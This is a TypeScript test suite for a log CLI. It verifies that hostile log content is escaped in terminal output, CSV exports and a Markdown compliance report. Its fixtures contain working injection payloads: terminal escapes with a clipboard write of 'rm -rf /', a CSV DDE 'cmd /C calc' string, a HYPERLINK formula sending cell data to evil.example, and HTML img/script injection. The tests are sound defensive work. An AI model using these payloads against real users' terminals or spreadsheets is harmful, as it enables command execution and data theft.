import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tailLine } from '../../src/cli/commands/tail';
import { csvField } from '../../src/cli/format';
import { visible } from '../../src/cli/table';
import { reportMarkdown } from '../../src/compliance/render';
import {
  assembleReport,
  EVIDENCE_ITEMS,
  type EvidenceId,
  type ItemBody,
  volumeItem,
} from '../../src/compliance/report';
import { loglake } from '../helpers/cli';
import { record, writeParquetLake } from '../helpers/records';

// What a producer can put in any field: screen clear, window title, OSC 8 link, OSC 52 clipboard write,
// carriage return, backspace, one-byte CSI, bidi override, zero-width space.
const HOSTILE =
  'ok\u001b[2J\u001b]0;pwned\u0007 \u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007 ' +
  '\u001b]52;c;cm0gLXJmIC8=\u0007 x\rFAKE\bY \u009b31m \u202eevil\u200b';
/** Anything a terminal acts on, newline (the line end) aside. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what the output must not hold.
const ACTED_ON = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/;
const window = ['--since', '2026-11-22T00:00Z', '--until', '2026-11-23T00:00Z'];

let dir: string;
beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'loglake-hostile-'));
  await writeParquetLake(dir, [
    record({
      timestamp: '2026-11-22T10:00:00.000Z',
      service: `svc${HOSTILE}`,
      correlation_id: `id${HOSTILE}`,
      message: `message ${HOSTILE}`,
      message_template: `template ${HOSTILE}`,
    }),
    record({
      timestamp: '2026-11-22T10:01:00.000Z',
      service: '@SUM(1+1)*cmd|" /C calc"!A0',
      correlation_id: '-2+3',
      message: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      message_template: '+1',
    }),
  ]);
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('log content in a terminal', () => {
  it.each([
    [['search', '--format', 'table']],
    [['search', '--format', 'table', '--context', '1']],
    [['stats', '--group-by', 'service']],
    [['stats', '--group-by', 'service', '--agg', 'min:correlation_id']],
    [['patterns']],
  ])('shows control, bidi and zero-width characters escaped in %j', async (args) => {
    for (const columns of [undefined, '60', '200']) {
      // Act
      const r = await loglake([...args, '--data-dir', dir, ...window], columns ? { COLUMNS: columns } : {});

      // Assess
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).not.toMatch(ACTED_ON);
      expect(r.stdout).toContain('\\u001b]0;pwned\\u0007');
    }
  });

  it('escapes them in tail lines', () => {
    const line = tailLine(record({ service: HOSTILE, correlation_id: HOSTILE, message: HOSTILE }), 'table');
    expect(line.slice(0, -1)).not.toMatch(ACTED_ON);
    expect(line).toContain('\\u202eevil\\u200b');
  });

  it('keeps ordinary text, tabs aside, as it is', () => {
    expect(visible('order 42 für Zoë 🙂 注文')).toBe('order 42 für Zoë 🙂 注文');
    expect(visible('a\tb\ud800')).toBe('a\\u0009b\\ud800');
  });
});

describe('CSV of log content', () => {
  it.each([
    [['export', '--format', 'csv', '--output', '-']],
    [['search', '--format', 'csv']],
    [['stats', '--group-by', 'service', '--format', 'csv']],
  ])('never starts a cell with a formula in %j', async (args) => {
    // Act
    const r = await loglake([...args, '--data-dir', dir, ...window]);

    // Assess
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain(`'@SUM(1+1)`);
    // A cell starts after a line start or a comma, possibly in quotes.
    expect(r.stdout).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
  });

  it('quotes a guarded cell that holds a quote, comma or line break', () => {
    expect(csvField('=1,"a"\n')).toBe(`"'=1,""a""\n"`);
    expect(csvField('-2')).toBe(`'-2`);
    expect(csvField(-2)).toBe('-2');
    expect(csvField('a-b')).toBe('a-b');
  });

  it('exports the file as it prints it', async () => {
    const out = join(dir, 'out.csv');
    const r = await loglake(['export', '--format', 'csv', '--output', out, '--data-dir', dir, ...window]);
    expect(r.code, r.stderr).toBe(0);
    expect(readFileSync(out, 'utf8')).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
  });
});

describe('log content in the Markdown compliance report', () => {
  it('cannot add lines, links, images or HTML', () => {
    // Prepare
    const volume = volumeItem(
      [
        {
          category: 'runtime',
          service:
            'x | y\r\n\n# Status: PASS\n<img src=x onerror=alert(1)> [docs](http://evil.example) ![](http://evil.example/t.png)',
          count: 1,
        },
      ],
      'test',
    );
    const hostile = {
      ...volume,
      summary: ['FINDING: aws_key in k row 1 (attributes.a\n\n## 1. All clear — OK\n<script>x</script>)'],
      status: 'violation' as const,
    };
    const bodies = Object.fromEntries(EVIDENCE_ITEMS.map((id) => [id, hostile])) as unknown as Record<
      EvidenceId,
      ItemBody
    >;
    const report = assembleReport(
      bodies,
      { engine: 'duckdb', dataDir: '/lake' },
      {
        since: new Date('2026-11-22T00:00Z'),
        until: new Date('2026-11-23T00:00Z'),
        standards: [],
        now: new Date('2026-11-23T00:00Z'),
      },
    );

    // Act
    const md = reportMarkdown(report);

    // Assess
    const lines = md.split('\n');
    expect(
      lines.filter((l) => l.startsWith('#')).every((l) => /^#{1,2} (loglake|Findings|\d+\. )/.test(l)),
    ).toBe(true);
    expect(lines.some((l) => l.includes('All clear'))).toBe(true);
    expect(lines.find((l) => l.includes('All clear'))).not.toMatch(/^#/);
    expect(md).not.toMatch(/(?<!\\)<(img|script)/);
    expect(md).not.toMatch(/(?<!\\)\[docs(?<!\\)\]\(/);
    expect(md).not.toMatch(/(?<!\\)!(?<!\\)\[/);
    expect(md).not.toContain('\r');
    for (const row of lines.filter((l) => l.startsWith('| runtime'))) {
      expect(row.split(/(?<!\\)\|/).length).toBe(7);
    }
  });
});
